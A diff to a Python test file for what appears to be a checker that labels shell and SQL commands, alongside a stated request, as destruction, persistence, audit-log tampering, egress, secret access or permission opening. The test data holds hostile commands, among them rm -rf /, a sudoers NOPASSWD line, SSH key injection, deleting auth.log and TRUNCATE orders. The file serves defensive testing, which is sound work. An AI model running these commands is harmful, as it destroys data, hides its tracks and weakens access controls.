@@ -36,6 +36,8 @@ SH echo "x ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers -> superuser
 SH echo key >> ~/.ssh/authorized_keys -> persistence
 SH (crontab -l; echo "* * * * * /x") | crontab - -> persistence
 SH rm -rf / -> destruction
+SH chmod -R 777 /srv/app -> open_to_all
+SQL GRANT ALL ON orders TO PUBLIC -> open_to_all
 SH find /srv/app -delete -> destruction
 SH kubectl delete ns shop -> destruction
 SH rsync -az /srv/app backup@192.0.2.5: -> egress
@@ -50,6 +52,19 @@ SH rm /srv/app/cache.tmp ->
 # reason | action -> finding that is left
 ANNOUNCED = r"""
 stop the audit daemon, it is filling the disk | SH systemctl stop auditd -> tamper.announced
+the auth log is corrupted, remove it | SH rm -f /var/log/auth.log -> tamper.announced
+check the auth log | SH rm -f /var/log/auth.log -> tamper
+let every user write to /srv/app | SH chmod -R 777 /srv/app -> open_to_all.announced
+create the account sysbak | SH useradd sysbak -> persistence.announced
+remove order 42 from orders | SQL DELETE FROM orders -> destruction
+remove order 42 from orders | SQL TRUNCATE orders -> destruction
+remove all rows of orders | SQL DELETE FROM orders -> destruction.announced
+all of orders is garbage, empty the table | SQL TRUNCATE orders -> destruction.announced
+remove order 42 from orders | SQL DELETE FROM orders WHERE id <> 42 -> destruction
+remove all orders but 42 | SQL DELETE FROM orders WHERE id <> 42 -> destruction.announced
+set the state of order 42 to open | SQL UPDATE orders SET state = 'open' -> destruction
+remove everything in the current folder | SH rm -rf * -> destruction.announced
+how many users signed in | SQL SELECT * FROM mysql.user -> secret
 the audit log is full, empty it | SQL TRUNCATE audit_log -> tamper.announced destruction.announced
 drop the table orders_old | SQL DROP TABLE orders_old -> destruction.announced
 drop the table orders_old | SQL DROP TABLE payments -> destruction
@@ -95,6 +110,11 @@ class TestWhatTheRequestSays:
     ) -> None:
         reason, _, action = case.partition(" | ")
         assert {each.code for each in said(reason, action)} == {*codes.split()}
+
+    def test_of_a_part_nobody_may_take_the_whole(self) -> None:
+        [found] = said("remove order 42 from orders", "SQL DELETE FROM orders")
+        assert found.severity is Severity.CRITICAL
+        assert found.text.endswith("the request speaks of a part of it alone.")
 
     def test_what_was_announced_is_light_and_still_there(self) -> None:
         [found] = said("drop the table orders_old", "SQL DROP TABLE orders_old")
